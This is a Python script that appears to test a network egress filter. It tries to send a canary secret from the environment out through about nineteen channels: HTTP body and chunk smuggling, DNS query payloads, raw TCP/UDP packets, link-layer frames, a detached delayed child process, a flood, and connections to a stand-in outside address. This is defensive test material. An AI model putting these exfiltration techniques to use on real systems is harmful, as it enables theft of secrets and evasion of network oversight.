"""An allowed request, and with it, one a word, a way in which the text in CANARY goes along.  smuggle.py WAY"""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

CANARY = os.environ.get("CANARY", "").encode()
HOST = ("cloud.test", 8080)
ELSEWHERE = ("198.51.100.7", 8080)
HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: cloud.test:8080\r\n"
ALLOWED = HEAD + b"Content-Length: 5\r\n\r\nhello"
QUESTION = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + b"\x05cloud\x04test\0"
NAMES = ("192.0.2.53", 53)


def request(
    data: bytes = ALLOWED, *, to: tuple[str, int] = HOST, from_port: int = 0, wait: bool = True
) -> socket.socket:
    """Sends that, waits for an answer, and leaves the connection open."""
    way = socket.socket()
    way.settimeout(5)
    way.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    way.bind(("", from_port))
    way.connect(to)
    way.sendall(data)
    if wait:
        way.recv(4096)
    return way


def nothing() -> None:
    request()


def by_the_same_port() -> None:
    first = request(from_port=40123)
    other = socket.socket()
    other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    other.bind(("", 40123))
    other.connect(ELSEWHERE)
    other.sendall(CANARY)
    other.close()
    first.close()


def by_another_address() -> None:
    request(to=ELSEWHERE)


def by_another_port() -> None:
    request(to=("cloud.test", 80))


def behind_the_body() -> None:
    request(ALLOWED + CANARY)


def broken_off() -> None:
    """Nobody can say what was under way when a connection is reset."""
    way = request()
    way.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    way.close()


def behind_the_answer() -> None:
    request().sendall(CANARY)


def before_the_next_request() -> None:
    request(CANARY + b"\r\n" + ALLOWED, wait=False)


def beside_a_chunk() -> None:
    request(HEAD + b"Transfer-Encoding: chunked\r\n\r\n5;" + CANARY + b"\r\nhello\r\n0\r\n\r\n", wait=False)


def behind_the_chunks() -> None:
    request(HEAD + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nx: " + CANARY + b"\r\n\r\n", wait=False)


def behind_a_question() -> None:
    request()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(5)
        way.sendto(QUESTION + struct.pack(">HH", 1, 1) + CANARY, NAMES)
        way.recv(999)


def by_the_kind_of_a_question() -> None:
    request()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(5)
        way.sendto(QUESTION + struct.pack(">HH", 16, 1), NAMES)
        way.recv(999)


def as_an_answer_of_the_name_server() -> None:
    """To somebody who listens, or else the refusal would be seen."""
    request()
    with (
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as listener,
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as way,
    ):
        listener.bind(("::", 9999))
        way.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        way.bind(("::", 53))
        way.sendto(CANARY, ("2001:db8::7", 9999))


def by_a_late_child() -> None:
    request()
    code = f"import time, urllib.request as u; time.sleep(0.7); u.urlopen('http://cloud.test:8080/', data={CANARY!r})"
    nul = subprocess.DEVNULL
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=nul, stdout=nul, stderr=nul)


def by_a_short_datagram() -> None:
    request()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as way:
        way.sendto(CANARY[:3], ELSEWHERE)


def by_a_segment_without_connection() -> None:
    request()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP) as way:
        way.sendto(struct.pack(">HHIIBBHHH", 40124, 8080, 1, 1, 0x50, 0x18, 512, 0, 0) + CANARY, ELSEWHERE)


def by_a_frame() -> None:
    request()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as way:
        way.sendto(CANARY, ("lo", 0x88B5, 0, 0, b"\0" * 6))


def by_a_frame_of_nothing_known() -> None:
    request()
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as way:
        way.sendto(CANARY[:3], ("lo", 0x0800, 0, 0, b"\0" * 6))


def in_a_flood() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        for _ in range(1000):
            way.sendto(bytes(60_000), ELSEWHERE)


WAYS: dict[str, Callable[[], None]] = {
    each.__name__: each
    for each in (
        nothing,
        by_the_same_port,
        by_another_address,
        by_another_port,
        behind_the_body,
        broken_off,
        behind_the_answer,
        before_the_next_request,
        beside_a_chunk,
        behind_the_chunks,
        behind_a_question,
        by_the_kind_of_a_question,
        as_an_answer_of_the_name_server,
        by_a_late_child,
        by_a_short_datagram,
        by_a_segment_without_connection,
        by_a_frame,
        by_a_frame_of_nothing_known,
        in_a_flood,
    )
}

if __name__ == "__main__":
    WAYS[sys.argv[1]]()
